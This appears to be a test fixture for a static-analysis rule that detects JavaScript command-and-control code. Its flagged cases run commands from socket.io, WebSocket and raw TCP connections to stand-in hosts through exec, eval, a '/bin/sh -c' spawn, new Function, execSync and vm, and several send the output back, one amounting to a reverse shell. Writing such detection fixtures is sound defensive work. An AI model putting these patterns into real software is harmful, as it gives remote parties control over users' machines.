/*
 * Fixture for js-c2-socket-exec.
 * RULEID: socket.io event payload into exec, ws message into eval, net.Socket data into spawn with
 *   a shell, onmessage into new Function, a field of a parsed message into execSync, vm, a field
 *   destructured in the handler's parameter list, a payload run later from a timer.
 * OK: chat message echoed, data handler on a file stream, process IPC message, a fixed command run
 *   on a message, a command picked from an allow-list, a payload parameter overwritten with a
 *   fixed command.
 */
const { exec, execSync, spawn } = require("child_process");
const cp = require("child_process");
const vm = require("vm");
const net = require("net");
const io = require("socket.io-client");
const WebSocket = require("ws");

const link = io("https://updates.example-cdn.net");
link.on("run", (cmd) => {
  // ruleid: js-c2-socket-exec
  exec(cmd, (err, out) => link.emit("out", out));
});

const ws = new WebSocket("wss://203.0.113.9:8443/");
ws.on("message", function (raw) {
  const text = raw.toString();
  // ruleid: js-c2-socket-exec
  eval(text);
});

const client = net.connect(4444, "198.51.100.7");
client.on("data", (chunk) => {
  const line = String(chunk).trim();
  // ruleid: js-c2-socket-exec
  const p = cp.spawn("/bin/sh", ["-c", line]);
  p.stdout.on("data", (d) => client.write(d));
});

const es = new WebSocket("wss://c2.example.org");
es.onmessage = (evt) => {
  // ruleid: js-c2-socket-exec
  new Function(evt.data)();
};

link.on("task", async (payload) => {
  const job = JSON.parse(payload);
  // ruleid: js-c2-socket-exec
  const out = execSync(job.command).toString();
  link.emit("result", out);
});

ws.addEventListener("message", (m) => {
  // ruleid: js-c2-socket-exec
  vm.runInThisContext(m.data);
});

// ok: js-c2-socket-exec
link.on("chat", (msg) => console.log("message:", msg));

const fs = require("fs");
const stream = fs.createReadStream("build.log");
stream.on("data", (buf) => {
  // ok: js-c2-socket-exec
  console.log(buf.toString());
});

process.on("message", (m) => {
  // ok: js-c2-socket-exec
  exec(m.cmd);
});

link.on("refresh", (what) => {
  // ok: js-c2-socket-exec
  exec("git pull --ff-only", () => link.emit("refreshed", what));
});

const ALLOWED = { status: "git status", log: "git log -1" };
link.on("gitcmd", (name) => {
  // ok: js-c2-socket-exec
  exec(lookupAllowed(ALLOWED, name));
});

link.on("job", async ({ script, id }) => {
  // ruleid: js-c2-socket-exec
  const res = execSync(script, { timeout: 60000 });
  link.emit("job-done", { id, res: String(res) });
});

link.on("later", (task) => {
  setTimeout(() => {
    // ruleid: js-c2-socket-exec
    cp.exec(task.cmd);
  }, 5000);
});

link.on("heartbeat", (probe) => {
  probe = "uptime";
  // ok: js-c2-socket-exec
  exec(probe, (err, out) => link.emit("alive", out));
});
